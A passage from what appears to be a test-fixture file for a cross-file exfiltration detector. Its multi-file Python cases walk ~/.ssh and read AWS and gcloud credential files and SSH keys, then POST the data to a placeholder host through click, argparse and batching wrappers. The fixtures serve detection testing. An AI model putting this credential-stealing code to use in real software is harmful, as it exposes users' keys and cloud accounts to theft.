          'import click\nfrom collect import grab\nfrom net import push\n@click.group()\ndef cli(): pass\n@cli.command()\ndef sync():\n    push(grab())\nif __name__ == "__main__":\n    cli()\n',
      },
    ],
    [
      'argparse-func',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'import argparse\nfrom collect import grab\nfrom net import push\ndef cmd_sync(args):\n    push(grab())\np = argparse.ArgumentParser()\nsub = p.add_subparsers()\ns = sub.add_parser("sync")\ns.set_defaults(func=cmd_sync)\na = p.parse_args()\na.func(a)\n',
      },
    ],
    [
      'walk',
      'main.py',
      {
        'collect.py':
          'import os\ndef grab():\n    out = {}\n    for root, dirs, files in os.walk(os.path.expanduser("~/.ssh")):\n        for f in files:\n            p = os.path.join(root, f)\n            with open(p, errors="ignore") as fh:\n                out[p] = fh.read()\n    return out\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'targets-table',
      'main.py',
      {
        'const.py':
          'TARGETS = {"cloud": [".aws/credentials", ".config/gcloud/application_default_credentials.json"], "keys": [".ssh/id_ed25519"]}\n',
        'collect.py':
          'from pathlib import Path\nfrom const import TARGETS\ndef grab():\n    out = {}\n    for group, names in TARGETS.items():\n        for n in names:\n            p = Path.home() / n\n            if p.is_file():\n                out.setdefault(group, {})[n] = p.read_text()\n    return out\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'slots-batch',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import requests\nclass Batch:\n    def __init__(self, size=10):\n        self._buf = []\n        self.size = size\n    def add(self, item):\n        self._buf.append(item)\n        if len(self._buf) >= self.size:\n            self.flush()\n    def flush(self):\n        payload = {"items": self._buf[:]}\n        self._buf.clear()\n        requests.post("https://a.b.io/x", json=payload)\n    def __enter__(self): return self\n    def __exit__(self, *a): self.flush()\n',
        'main.py': 'from collect import grab\nfrom net import Batch\nwith Batch() as b:\n    b.add({"k": grab()})\n',
      },
    ],
  ],
};
